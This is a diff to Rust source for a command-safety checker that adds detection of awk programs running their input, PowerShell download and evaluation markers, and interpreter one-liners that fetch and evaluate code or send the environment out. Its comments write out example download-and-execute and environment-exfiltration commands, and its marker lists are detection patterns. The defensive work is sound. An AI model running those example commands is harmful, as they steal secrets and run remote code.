@@ -317,6 +317,26 @@ fn code_reads_environment(c: &SimpleCommand) -> bool {
     })
 }
 
+/// Whether an awk program runs the lines it reads as commands: `system()` of a field
+/// (`awk '{system($0)}'`), or lines printed into a shell (`awk '{print | "sh"}'`).
+fn awk_runs_input(c: &SimpleCommand) -> bool {
+    if !matches!(c.basename(), "awk" | "gawk" | "mawk" | "nawk") || c.dynamic_program {
+        return false;
+    }
+    let Some(program) = c.args.iter().find(|a| !a.text.starts_with('-')) else {
+        return false;
+    };
+    let t = program.text.replace(char::is_whitespace, "");
+    let system_of_field = t.match_indices("system(").any(|(k, _)| {
+        t[k + "system(".len()..]
+            .split(')')
+            .next()
+            .is_some_and(|arg| arg.contains('$'))
+    });
+    let into_shell = SHELLS_C.iter().any(|sh| t.contains(&format!("|\"{sh}\"")));
+    system_of_field || into_shell
+}
+
 /// What code in a language without a parser here writes to open a network connection.
 const UNPARSED_NETWORK_MARKERS: &[&str] = &[
     "http://",
@@ -338,25 +358,60 @@ const UNPARSED_NETWORK_MARKERS: &[&str] = &[
     "stream_socket_client",
     "socket_connect",
     "socket(",
+    "Invoke-WebRequest",
+    "Invoke-RestMethod",
+    "iwr ",
+    "iwr(",
+    "irm ",
+    "irm(",
+    "Net.WebClient",
+    "DownloadString",
 ];
 
-/// Ruby, Perl and PHP code is not parsed here: code that both reads the whole environment and
-/// names a network connection (`ruby -e 'Net::HTTP.post(URI("https://…"), ENV.to_h.to_s)'`)
-/// may send it, so it is unsure.
+/// What code in a language without a parser here writes to run text as code.
+const UNPARSED_EVAL_MARKERS: &[&str] = &[
+    "eval",
+    "instance_eval",
+    "class_eval",
+    "Invoke-Expression",
+    "iex ",
+    "iex(",
+    "IEX ",
+    "IEX(",
+    "create_function",
+    "assert(",
+];
+
+/// Ruby, Perl, PHP and PowerShell code is not parsed here: code that names a network
+/// connection and also reads the whole environment (`ruby -e 'Net::HTTP.post(URI("https://…"),
+/// ENV.to_h.to_s)'`) may send it, and code that names one and evaluates text (`php -r
+/// "eval(file_get_contents('https://…'));"`, `pwsh -c 'iex (iwr https://…)'`) may run what it
+/// fetches: both are unsure.
 fn unparsed_code_effects(c: &SimpleCommand, out: &mut Out) {
     let lang = match c.basename() {
         "ruby" => "Ruby",
         "perl" | "perl5" => "Perl",
         "php" => "PHP",
+        "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe" => "PowerShell",
         _ => return,
     };
-    let networks = c
-        .args
-        .iter()
-        .any(|a| UNPARSED_NETWORK_MARKERS.iter().any(|m| a.text.contains(m)));
-    if networks && code_reads_environment(c) {
+    let has = |markers: &[&str]| {
+        c.args
+            .iter()
+            .any(|a| markers.iter().any(|m| a.text.contains(m)))
+    };
+    if !has(UNPARSED_NETWORK_MARKERS) {
+        return;
+    }
+    if code_reads_environment(c) {
         out.push(What::Unsure(format!(
             "{lang} code that reads the whole environment and opens a network connection \
+             (seamguard does not parse {lang})"
+        )));
+    }
+    if has(UNPARSED_EVAL_MARKERS) {
+        out.push(What::Unsure(format!(
+            "{lang} code that opens a network connection and evaluates text as code \
              (seamguard does not parse {lang})"
         )));
     }
@@ -399,6 +454,9 @@ const STDIN_RUNNERS: &[&str] = &[
 /// Whether `c` runs its standard input as code: a shell or interpreter with no script operand
 /// and no inline code (`sh`, `sudo bash -s -- --flag`, `python3 -`, `source /dev/stdin`).
 fn runs_stdin(c: &SimpleCommand) -> bool {
+    if awk_runs_input(c) {
+        return true;
+    }
     let b = c.basename();
     let b = b.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
     if !STDIN_RUNNERS.contains(&b) && !STDIN_RUNNERS.contains(&c.basename()) {
@@ -958,7 +1016,8 @@ fn program_effects(c: &SimpleCommand, out: &mut Out) {
     match c.basename() {
         "git" => git_config(c, out),
         "crontab" | "at" | "batch" => scheduled_jobs(c, out),
-        "ruby" | "perl" | "perl5" | "php" => unparsed_code_effects(c, out),
+        "ruby" | "perl" | "perl5" | "php" | "pwsh" | "powershell" | "powershell.exe"
+        | "pwsh.exe" => unparsed_code_effects(c, out),
         _ => {}
     }
     if let Some(inner) = python_module(c) {
